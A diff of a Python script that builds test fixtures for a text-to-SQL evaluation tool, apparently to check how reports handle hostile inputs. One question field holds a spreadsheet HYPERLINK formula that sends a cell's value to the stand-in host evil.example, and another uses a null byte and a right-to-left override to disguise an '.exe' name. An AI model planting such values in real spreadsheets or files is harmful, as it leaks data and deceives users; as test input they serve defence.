@@ -94,8 +94,8 @@ with open(os.path.join(d, "decompose_slow.jsonl"), "w") as f:
 with open(os.path.join(d, "formula.jsonl"), "w") as f:
     f.write(case(id="f:1", question='=HYPERLINK("http://evil.example/?"&A1,"click")',
                  gold_sql="SELECT count(*) FROM singer", pred_sql="SELECT count(*) FROM singer WHERE age > 1"))
-    f.write(case(id="f:2", question="How many\u0000 singers \u202egnp.exe?",
-                 gold_sql="SELECT count(*) FROM singer", pred_sql="SELECT count(*) FROM singer"))
+    f.write(case(id="f:2", question="How many\u0000 singers \u202egnp.exe?",  # wrong: in the report
+                 gold_sql="SELECT count(*) FROM singer", pred_sql="SELECT count(*) FROM singer WHERE age > 30"))
 def annotation(**kw):
     base = {"format": "hallusql-annotations", "version": 1, "run": "formula", "case_key": "f:1", "taxonomy": "", "category": "", "subcategory": "",
             "reviewer": "eve", "verdict": "incorrect", "note": "", "created_at": "2026-01-01T00:00:00Z"}
